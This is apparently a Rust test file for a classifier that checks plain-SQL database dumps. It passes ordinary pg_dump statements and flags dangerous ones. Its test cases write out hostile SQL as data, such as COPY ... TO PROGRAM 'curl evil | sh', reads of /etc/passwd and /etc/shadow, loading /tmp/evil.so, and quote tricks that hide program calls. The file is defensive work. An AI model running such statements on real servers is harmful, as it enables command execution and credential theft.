use super::*;
use proptest::prelude::*;

/// What pg_dump (9.6 … 18) writes, statement by statement; none is arbitrary.
const PG_DUMP: &[&str] = &[
    "SET statement_timeout = 0;\n",
    "SET lock_timeout = 0;\n",
    "SET idle_in_transaction_session_timeout = 0;\n",
    "SET transaction_timeout = 0;\n",
    "SET client_encoding = 'UTF8';\n",
    "SET standard_conforming_strings = on;\n",
    "SELECT pg_catalog.set_config('search_path', '', false);\n",
    "SET check_function_bodies = false;\n",
    "SET xmloption = content;\n",
    "SET client_min_messages = warning;\n",
    "SET row_security = off;\n",
    "SET default_tablespace = '';\n",
    "SET default_table_access_method = heap;\n",
    "SET search_path = public, pg_catalog;\n",
    "SET SESSION AUTHORIZATION 'alice';\n",
    "SET ROLE postgres;\n",
    "RESET SESSION AUTHORIZATION;\n",
    "CREATE SCHEMA app;\n",
    "ALTER SCHEMA app OWNER TO alice;\n",
    "CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA extensions;\n",
    "COMMENT ON EXTENSION pgcrypto IS 'cryptographic functions';\n",
    "CREATE OR REPLACE PROCEDURAL LANGUAGE plpython3u;\n",
    "CREATE FUNCTION app.total() RETURNS numeric\n    LANGUAGE plpgsql\n    AS $$\nBEGIN\n  RETURN (SELECT sum(amount) FROM app.orders);\nEND\n$$;\n",
    "CREATE FUNCTION public.py() RETURNS text\n    LANGUAGE plpython3u\n    AS $$ import os; return os.getcwd() $$;\n",
    "CREATE FUNCTION public.add_one(integer) RETURNS integer\n    LANGUAGE c STRICT\n    AS '$libdir/add_one', 'add_one';\n",
    "CREATE TABLE public.t (\n    id integer NOT NULL,\n    g integer GENERATED ALWAYS AS ((id * 2)) STORED,\n    note text DEFAULT 'x'::text\n);\n",
    "CREATE TABLE public.events (\n    at date\n)\nPARTITION BY RANGE (at);\n",
    "CREATE TABLE public.events_2024 PARTITION OF public.events FOR VALUES FROM ('2024-01-01') TO ('2025-01-01');\n",
    "CREATE UNLOGGED TABLE public.u (a int) WITH (fillfactor='70');\n",
    "CREATE MATERIALIZED VIEW public.totals AS\n SELECT count(*) AS n\n   FROM public.t\n  WITH NO DATA;\n",
    "REFRESH MATERIALIZED VIEW public.totals;\n",
    "CREATE VIEW public.v AS\n SELECT t.id FROM public.t;\n",
    "ALTER TABLE public.t ALTER COLUMN id ADD GENERATED ALWAYS AS IDENTITY (\n    SEQUENCE NAME public.t_id_seq\n    START WITH 1\n    CACHE 1\n);\n",
    "ALTER TABLE ONLY public.t\n    ADD CONSTRAINT t_pkey PRIMARY KEY (id);\n",
    "ALTER TABLE public.t ENABLE ROW LEVEL SECURITY;\n",
    "CREATE POLICY p ON public.t FOR SELECT TO authenticated USING ((id = 1));\n",
    "CREATE UNIQUE INDEX t_idx ON public.t USING btree (lower(note));\n",
    "CREATE TRIGGER tr AFTER INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION app.f();\n",
    "CREATE EVENT TRIGGER w ON ddl_command_end\n   EXECUTE FUNCTION extensions.ddl_watch();\n",
    "CREATE PUBLICATION pub FOR TABLE ONLY public.t WITH (publish = 'insert');\n",
    "CREATE SUBSCRIPTION s CONNECTION 'host=x password=sekrit' PUBLICATION p WITH (connect = false, slot_name = 's');\n",
    "CREATE STATISTICS public.st ON id, note FROM public.t;\n",
    "COPY public.t (id, note) FROM stdin;\n",
    "COPY \"MixedCase\".\"Weird Table\" (\"Odd Col\") FROM stdin;\n",
    "SELECT pg_catalog.setval('public.t_id_seq', 42, true);\n",
    "SELECT pg_catalog.lo_create('424201');\n",
    "ALTER LARGE OBJECT 424201 OWNER TO postgres;\n",
    "SELECT pg_catalog.lo_open('424201', 131072);\n",
    "SELECT pg_catalog.lowrite(0, '\\x48656c6c6f');\n",
    "SELECT pg_catalog.lo_close(0);\n",
    "SELECT pg_catalog.lo_unlink(oid) FROM pg_catalog.pg_largeobject_metadata WHERE oid = '424201';\n",
    "SELECT * FROM pg_catalog.pg_restore_relation_stats(\n\t'version', '180000'::integer,\n\t'relpages', '1'::integer\n);\n",
    "BEGIN;\n",
    "COMMIT;\n",
    "INSERT INTO public.t VALUES (1, 'a'), (-2, NULL), (3, E'it''s');\n",
    "INSERT INTO public.t (id, note) OVERRIDING SYSTEM VALUE VALUES (1, true) ON CONFLICT DO NOTHING;\n",
    "GRANT ALL ON SCHEMA public TO PUBLIC;\n",
    "REVOKE ALL ON TABLE public.t FROM alice;\n",
    "GRANT SELECT(id) ON TABLE public.t TO reader;\n",
    "ALTER DEFAULT PRIVILEGES FOR ROLE postgres IN SCHEMA public GRANT ALL ON TABLES TO anon;\n",
    "ALTER DATABASE shop SET search_path TO public, extensions;\n",
    "ALTER ROLE app IN DATABASE shop SET work_mem TO '64MB';\n",
    "SECURITY LABEL FOR selinux ON TABLE public.t IS 'x';\n",
    "DROP TABLE IF EXISTS public.t;\n",
    "CREATE OR REPLACE FUNCTION public.pl() RETURNS void LANGUAGE plperlu AS $$ 1; $$;\n",
    "-- only a comment\n",
    ";\n",
];

#[test]
fn pg_dumps_statements_are_not_arbitrary() {
    let mut c = Classifier::new();
    for s in PG_DUMP {
        assert_eq!(c.classify(s.as_bytes()), None, "{s}");
    }
    // Not pg_dump's, but a literal all the same (a hand-written seed script).
    assert_eq!(
        c.classify(b"INSERT INTO hand VALUES (2, $$x\nCOMMIT;$$);"),
        None
    );
}

#[test]
fn attacks_are_named_with_their_kind() {
    use ArbitraryKind::*;
    let cases: &[(&str, ArbitraryKind)] = &[
        ("COPY t FROM PROGRAM 'touch /tmp/marker';", RunsProgram),
        (
            "copy public.t (a) from /* stdin */ program 'id';",
            RunsProgram,
        ),
        ("COPY (SELECT 1) TO PROGRAM 'curl evil | sh';", RunsProgram),
        (
            "CREATE TABLE x (a int); COPY x FROM\nPROGRAM 'id'",
            RunsProgram,
        ),
        ("COPY t TO '/tmp/file';", ServerFiles),
        ("COPY t FROM '/etc/passwd';", ServerFiles),
        ("COPY t (a) FROM stdin WITH (FORMAT csv);", Unrecognised),
        ("COPY t (a) TO stdout;", Unrecognised),
        ("ALTER SYSTEM SET archive_command = 'id';", ServerConfig),
        ("DO $$ BEGIN PERFORM 1; END $$;", RunsCode),
        ("CALL app.p();", RunsCode),
        ("LOAD '/tmp/evil.so';", RunsCode),
        ("SELECT pg_read_file('/etc/passwd');", ServerFiles),
        (
            "SELECT pg_catalog.pg_read_binary_file('/etc/shadow');",
            ServerFiles,
        ),
        ("SELECT lo_import('/etc/passwd');", ServerFiles),
        ("SELECT app.f();", RunsCode),
        ("SELECT setval('s', 1);", RunsCode),
        (
            "SELECT pg_catalog.set_config('archive_command', 'id', false);",
            RunsCode,
        ),
        ("SELECT pg_catalog.setval('s', (SELECT 1));", RunsCode),
        ("SELECT 1;", Unrecognised),
        ("CREATE ROLE x SUPERUSER;", Superuser),
        (
            "CREATE USER x WITH LOGIN SUPERUSER PASSWORD 'p';",
            Superuser,
        ),
        ("ALTER ROLE postgres WITH SUPERUSER;", Superuser),
        ("ALTER ROLE app WITH LOGIN;", Unrecognised),
        ("CREATE ROLE x;", Unrecognised),
        ("GRANT pg_execute_server_program TO app;", Superuser),
        ("GRANT admin TO app;", Unrecognised),
        ("CREATE TABLESPACE t LOCATION '/tmp/x';", ServerFiles),
        ("CREATE TABLE t AS SELECT pg_catalog.now();", RunsCode),
        ("CREATE MATERIALIZED VIEW m AS SELECT app.f();", RunsCode),
        (
            "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');",
            ServerFiles,
        ),
        (
            "ALTER TABLE t ALTER COLUMN a SET DEFAULT pg_ls_dir('/');",
            ServerFiles,
        ),
        (
            "INSERT INTO t VALUES (pg_read_file('/etc/hosts'));",
            ServerFiles,
        ),
        ("INSERT INTO t VALUES (app.f());", RunsCode),
        ("INSERT INTO t SELECT 1 UNION VALUES (2);", RunsCode),
        ("SET check_function_bodies = true;", RunsCode),
        ("SET session_preload_libraries = 'x';", Unrecognised),
        (
            "ALTER DATABASE d SET session_preload_libraries = '/tmp/evil';",
            ServerConfig,
        ),
        (
            "ALTER ROLE r IN DATABASE d SET local_preload_libraries = 'x';",
            ServerConfig,
        ),
        (
            "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;",
            Unrecognised,
        ),
        (
            "CREATE FUNCTION pg_catalog.setval(text, int) RETURNS int LANGUAGE sql AS 'select 1';",
            Unrecognised,
        ),
        (
            "UPDATE pg_catalog.pg_authid SET rolsuper = true;",
            Unrecognised,
        ),
        ("WITH x AS (SELECT 1) SELECT * FROM x;", RunsCode),
        ("EXPLAIN ANALYZE SELECT app.f();", RunsCode),
        ("CHECKPOINT;", Unrecognised),
        ("DROP ROLE alice;", Unrecognised),
        ("SELECT dblink_exec('host=x', 'select 1');", RunsCode),
    ];
    for (sql, kind) in cases {
        let f = classify(sql.as_bytes()).unwrap_or_else(|| panic!("not flagged: {sql}"));
        assert_eq!(f.kind, *kind, "{sql}");
        assert!(!f.excerpt.is_empty());
    }
}

#[test]
fn untrusted_functions_need_function_bodies_unchecked() {
    // plperlu compiles (and runs BEGIN blocks) when function bodies are checked.
    let f = b"CREATE FUNCTION f() RETURNS void LANGUAGE plperlu AS $$ BEGIN { system('id') } $$;";
    let mut c = Classifier::new();
    assert_eq!(c.classify(f).unwrap().kind, ArbitraryKind::RunsCode);
    assert_eq!(c.classify(b"SET check_function_bodies = false;"), None);
    assert_eq!(c.classify(f), None);
    assert!(c.classify(b"RESET check_function_bodies;").is_some());
    assert!(c.classify(f).is_some());
    assert_eq!(Classifier::for_pg_restore().classify(f), None);
    // The old spelling of the language as a string.
    let old = b"CREATE FUNCTION f() RETURNS void AS 'x' LANGUAGE 'plperlu';";
    assert!(Classifier::new().classify(old).is_some());
}

#[test]
fn quotes_and_comments_hide_nothing_and_invent_nothing() {
    // In quotes or comments: not a program.
    for s in [
        "COMMENT ON TABLE t IS 'COPY t FROM PROGRAM ''id''';",
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $x$ SELECT 'FROM PROGRAM' $x$;",
        "COPY t (a) FROM stdin; -- FROM PROGRAM 'id'",
        "COPY t (a) /* TO PROGRAM 'id' */ FROM stdin;",
        "CREATE VIEW v AS SELECT 1 AS \"FROM PROGRAM\";",
    ] {
        assert_eq!(classify(s.as_bytes()), None, "{s}");
    }
    // A quote that ends where it seems not to: the program is outside it.
    for s in [
        "COMMENT ON TABLE t IS E'\\'' ; COPY t FROM PROGRAM 'id';",
        "COMMENT ON TABLE t IS 'a''' FROM PROGRAM 'id';",
        "COMMENT ON TABLE t IS $a$ $b$ $a$ FROM PROGRAM 'id';",
        "COMMENT ON TABLE t IS 'x' /* /* */ */ FROM PROGRAM 'id';",
    ] {
        assert_eq!(
            classify(s.as_bytes()).map(|f| f.kind),
            Some(ArbitraryKind::RunsProgram),
            "{s}"
        );
    }
}

#[test]
fn excerpts_are_short_escaped_and_hold_no_password() {
    let f = classify(b"/* hi */ CREATE ROLE x SUPERUSER LOGIN PASSWORD 'hunter2'; ").unwrap();
    assert_eq!(
        f.excerpt,
        "CREATE ROLE x SUPERUSER LOGIN PASSWORD '[redacted]';"
    );
    // Cut off inside the password: still nothing of it.
    let mut long = b"CREATE ROLE x SUPERUSER PASSWORD '".to_vec();
    long.extend(std::iter::repeat_n(b'a', 5000));
    long.extend_from_slice(b"';");
    let f = classify(&long).unwrap();
    assert!(!f.excerpt.contains("aaa"), "{}", f.excerpt);
    let f = classify(b"CREATE SUBSCRIPTION s CONNECTION 'host=h password=sekrit' PUBLICATION p;")
        .unwrap();
    assert!(!f.excerpt.contains("sekrit"), "{}", f.excerpt);
    // Long: cut, with an ellipsis; control and direction characters escaped.
    let mut s = b"DO $$ BEGIN\n\n\tPERFORM '\x1b[31m\xe2\x80\xae'; ".to_vec();
    s.extend(std::iter::repeat_n(b'x', 1000));
    s.extend_from_slice(b" END $$;");
    let f = classify(&s).unwrap();
    assert!(
        f.excerpt
            .starts_with("DO $$ BEGIN PERFORM '\\u{1b}[31m\\u{202e}'"),
        "{}",
        f.excerpt
    );
    assert!(f.excerpt.ends_with('…'));
    assert!(f.excerpt.chars().count() <= EXCERPT_CHARS + 1);
    assert_eq!(
        f.sentence().split(": ").next().unwrap(),
        "this file runs code on the database server"
    );
}

/// A pg_dump statement cut into its tokens' text (whole tokens only).
fn tokens_of(s: &str) -> Vec<String> {
    let b = s.as_bytes();
    let mut lx = Lexer::new(b);
    let mut out = Vec::new();
    while let Some((from, to, _)) = lx.next_span() {
        out.push(String::from_utf8_lossy(&b[from..to]).into_owned());
    }
    out
}

fn gap() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(" ".to_string()),
        Just("\n".to_string()),
        Just(" /* x */ ".to_string()),
        Just(" -- c\n".to_string()),
        Just("\t".to_string()),
    ]
}

fn mixed_case(w: &'static str) -> impl Strategy<Value = String> {
    proptest::collection::vec(any::<bool>(), w.len()).prop_map(move |up| {
        w.chars()
            .zip(up)
            .map(|(c, u)| {
                if u {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect()
    })
}

proptest! {
    #![proptest_config(offsite_testkit::fuzz::config())]

    /// Arbitrary bytes never panic, and an excerpt stays short.
    #[test]
    fn fuzz_plainsql_classify(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let mut c = Classifier::new();
        if let Some(f) = c.classify(&bytes) {
            prop_assert!(f.excerpt.chars().count() <= EXCERPT_CHARS + 1);
        }
        let _ = excerpt(&bytes);
    }

    /// `FROM PROGRAM` / `TO PROGRAM` put between the tokens of any pg_dump statement (outside
    /// its quotes and comments by construction), in any case and spacing, is never pg_dump's.
    #[test]
    fn fuzz_plainsql_classify_program_anywhere(
        which in 0..PG_DUMP.len(),
        at in any::<prop::sample::Index>(),
        dir in prop_oneof![Just("FROM"), Just("TO")],
        kw in mixed_case("program"),
        dirc in any::<bool>(),
        g1 in gap(), g2 in gap(), g3 in gap(),
        cmd in "[a-z /;'$]{0,20}",
    ) {
        let toks = tokens_of(PG_DUMP[which]);
        let i = at.index(toks.len() + 1);
        let dir = if dirc { dir.to_ascii_lowercase() } else { dir.to_string() };
        let quoted = format!("'{}'", cmd.replace('\'', "''"));
        let mut s = toks[..i].join(" ");
        s.push_str(&format!("{g1}{dir}{g2}{kw}{g3}{quoted} "));
        s.push_str(&toks[i..].join(" "));
        let f = Classifier::for_pg_restore().classify(s.as_bytes());
        prop_assert_eq!(f.map(|f| f.kind), Some(ArbitraryKind::RunsProgram), "{}", s);
    }
}

#[test]
fn naming_a_function_in_a_privilege_is_not_calling_it() {
    // What pg_dump writes for a Supabase project (the platform's grants on the server-side
    // large-object functions), and comments and privileges on functions of those names.
    for sql in [
        "REVOKE ALL ON FUNCTION pg_catalog.lo_export(oid, text) FROM postgres;",
        "REVOKE ALL ON FUNCTION pg_catalog.lo_import(text) FROM postgres;",
        "REVOKE EXECUTE ON FUNCTION pg_catalog.pg_read_file(text, bigint, bigint) FROM PUBLIC;",
        "REVOKE ALL ON FUNCTION pg_catalog.lo_export(oid, text), pg_catalog.lo_import(text, oid) FROM \"Odd\";",
        "REVOKE ALL ON ROUTINE \"pg_catalog\" . \"lo_export\" /* c */ (oid, text) FROM x;",
        "COMMENT ON FUNCTION public.lo_export(oid, text) IS 'a wrapper: lo_export(1, ''/x'')';",
        "SECURITY LABEL FOR selinux ON FUNCTION public.pg_read_file(text) IS 'system_u:object_r:x';",
        "GRANT ALL ON FUNCTION public.f(integer) TO anon;",
        "GRANT EXECUTE ON FUNCTION extensions.crypt(text, text) TO postgres WITH GRANT OPTION;",
    ] {
        assert_eq!(classify(sql.as_bytes()), None, "{sql}");
    }
}

#[test]
fn granting_a_server_power_is_said_and_calling_one_is_still_refused() {
    use ArbitraryKind::*;
    let cases: &[(&str, ArbitraryKind)] = &[
        // A privilege on a function that reaches the server's files gives a role that power.
        (
            "GRANT ALL ON FUNCTION pg_catalog.lo_export(oid, text) TO supabase_admin;",
            Superuser,
        ),
        (
            "GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO PUBLIC;",
            Superuser,
        ),
        (
            "GRANT EXECUTE ON FUNCTION public.f(int), \"pg_catalog\".\"LO_IMPORT\"(text) TO x;",
            Superuser,
        ),
        ("GRANT EXECUTE ON FUNCTION lo_import TO x;", Superuser),
        (
            "GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public, pg_catalog TO x;",
            Superuser,
        ),
        // Calls, however written: in a SELECT, a DEFAULT, a CALL, nested, quoted, with
        // comments between the tokens, after dollar quotes.
        ("SELECT pg_catalog.lo_export(16385, '/tmp/x');", ServerFiles),
        (
            "SELECT \"pg_catalog\" /* x */ . /* y */ \"lo_export\" -- z\n (1, '/tmp/x');",
            ServerFiles,
        ),
        (
            "SELECT $q$REVOKE ALL ON FUNCTION$q$, lo_export(1, '/tmp/x');",
            ServerFiles,
        ),
        (
            "CREATE TABLE t (a int DEFAULT lo_import('/etc/passwd'));",
            ServerFiles,
        ),
        (
            "ALTER TABLE t ALTER a SET DEFAULT pg_catalog.pg_read_file('/etc/passwd')::int;",
            ServerFiles,
        ),
        ("CALL p(lo_export(1, '/tmp/x'));", ServerFiles),
        (
            "CREATE VIEW v AS SELECT coalesce(length(pg_read_file('/etc/hosts')), 0);",
            ServerFiles,
        ),
        // A privilege statement that also calls: the call is seen.
        (
            "GRANT ALL ON FUNCTION public.f(lo_export(1, '/tmp/x')) TO x;",
            ServerFiles,
        ),
        (
            "REVOKE ALL ON TABLE t FROM x; SELECT lo_export(1, '/tmp/x');",
            ServerFiles,
        ),
        (
            "COMMENT ON TABLE t IS 'x'; COPY t TO PROGRAM 'id';",
            RunsProgram,
        ),
    ];
    for (sql, kind) in cases {
        let found = Findings::of_script(sql.as_bytes(), Classifier::new());
        let f = found
            .first
            .first()
            .unwrap_or_else(|| panic!("not flagged: {sql}"));
        assert_eq!(f.kind, *kind, "{sql}");
    }
}

/// A function name as a dump or an attacker may write it: plain, in any case, quoted,
/// schema-qualified with comments around the dot.
fn function_name(name: &'static str) -> impl Strategy<Value = String> {
    (
        mixed_case(name),
        prop_oneof![
            Just(""),
            Just("pg_catalog."),
            Just("\"pg_catalog\" . "),
            Just("PG_CATALOG/* . */."),
            Just("public."),
        ],
        any::<bool>(),
    )
        .prop_map(move |(n, schema, quoted)| {
            let n = if quoted { format!("\"{name}\"") } else { n };
            format!("{schema}{n}")
        })
}

/// Functions that reach the server's files, and two that do not.
const FUNCTIONS: &[(&str, bool)] = &[
    ("lo_export", true),
    ("lo_import", true),
    ("pg_read_file", true),
    ("pg_ls_dir", true),
    ("crypt", false),
    ("handle_new_user", false),
];

proptest! {
    #![proptest_config(offsite_testkit::fuzz::config())]

    /// A privilege statement on functions (as pg_dump writes them for Supabase, in any case,
    /// quoting and spacing) is never taken for a call: a REVOKE passes, a GRANT is flagged only
    /// as giving a role server powers, and only on a function that reaches them. A call of such
    /// a function put anywhere after the first signature's `(` — nested in the argument types,
    /// after the signature, after the grantee — is always flagged.
    #[test]
    fn fuzz_plainsql_classify_privilege_vs_call(
        grant in any::<bool>(),
        (power, written) in proptest::sample::select(FUNCTIONS)
            .prop_flat_map(|(n, power)| (Just(power), function_name(n))),
        g1 in gap(), g2 in gap(), g3 in gap(),
        kind in prop_oneof![Just("FUNCTION"), Just("ROUTINE"), Just("function")],
        call_name in prop_oneof![Just("lo_export"), Just("pg_read_file"), Just("lo_import")]
            .prop_flat_map(function_name),
        at in any::<prop::sample::Index>(),
    ) {
        let (verb, dir) = if grant { ("GRANT", "TO") } else { ("REVOKE", "FROM") };
        let stmt = format!(
            "{verb}{g1}ALL ON {kind}{g2}{written}(oid, text){g3}{dir} supabase_admin;"
        );
        let found = Classifier::for_pg_restore().classify(stmt.as_bytes()).map(|f| f.kind);
        let want = (grant && power).then_some(ArbitraryKind::Superuser);
        prop_assert_eq!(found, want, "{}", stmt);

        // The same statement with a real call after the signature's `(`.
        let toks = tokens_of(&stmt);
        let open = toks.iter().position(|t| t == "(").unwrap();
        let i = open + 1 + at.index(toks.len() - open);
        let mut s = toks[..i].join(" ");
        s.push_str(&format!(" {call_name}(1, '/tmp/x') "));
        s.push_str(&toks[i..].join(" "));
        let f = Classifier::for_pg_restore().classify(s.as_bytes());
        prop_assert!(f.is_some(), "not flagged: {}", s);
    }
}
